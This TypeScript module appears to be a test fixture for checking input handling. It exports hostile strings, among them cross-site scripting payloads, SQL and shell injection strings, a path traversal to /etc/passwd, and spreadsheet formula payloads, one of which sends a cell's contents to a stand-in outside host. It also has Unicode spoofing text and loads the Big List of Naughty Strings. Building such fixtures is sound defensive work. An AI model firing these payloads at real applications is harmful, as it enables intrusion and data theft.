import { existsSync, readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'

/* Texts that somebody writes who means harm, or whose language is not ours. */

const MARKUP = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  `' onfocus='alert(1)' autofocus='`,
  '"onmouseover="alert(1)" style="position:fixed;inset:0',
  '</title></textarea></style><iframe src="https://elsewhere.example/"></iframe>',
  '<!--[-->-->]]><base href="https://elsewhere.example/">',
  '<a href="javascript:alert(1)">here</a> javascript:alert(1)',
  '<form action="https://elsewhere.example/"><input name=password>',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;#60; &#x3c;b&#x3e;',
  '{{constructor.constructor("alert(1)")()}} {@html "<b>"} $' + '{alert(1)} <%= 1 %> #{1}',
  '`+alert(1)+` \\u003cscript\\u003e \\x3cb\\x3e',
]

const WRITING = [
  '\u202egnp.exe\u202c \u2066left\u2069 \u200fright\u200e',
  'zero\u200bwidth\u200c\u200d\u2060\ufeff here',
  `w${'o'.repeat(280)}rd`,
  'إن الحارس قال إن البوابة كانت مفتوحة، و\u200fHearsay\u200e أيضا',
  'שומר אמר "כן" (והלך)',
  '👩‍👩‍👧‍👦🏳️‍🌈 🇺🇳 👍🏿 e\u0301\u0301\u0301\u0301\u0301',
  'Z̸̡̢͓͔̈́͌̕͝a̵̢̧͓̘̽͊̒̕l̷̢̛͍̙̈́͆͝g̶̨̱̣̈́̀̕͝o̴̡̨̗̓̓̚͝',
]

const PROGRAMS = [
  '\'; drop table entries; -- " or 1=1',
  '=HYPERLINK("https://elsewhere.example/?"&A1,"here")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '../../../../etc/passwd%00.html C:\\con\\nul',
  '$(touch /tmp/x); `id` | cat && {"__proto__":{"x":1}}',
]

const BLNS = fileURLToPath(new URL('../../../../shared/data/vectors/blns/blns.json', import.meta.url))

/** Whether the public list of such texts stands beside the repository. */
export const hasList = existsSync(BLNS)

/** Our own, then the Big List of Naughty Strings (github.com/minimaxir/big-list-of-naughty-strings). */
export const HOSTILE: readonly string[] = [
  ...[...MARKUP, ...WRITING, ...PROGRAMS],
  ...(hasList ? (JSON.parse(readFileSync(BLNS, 'utf8')) as string[]) : []),
]
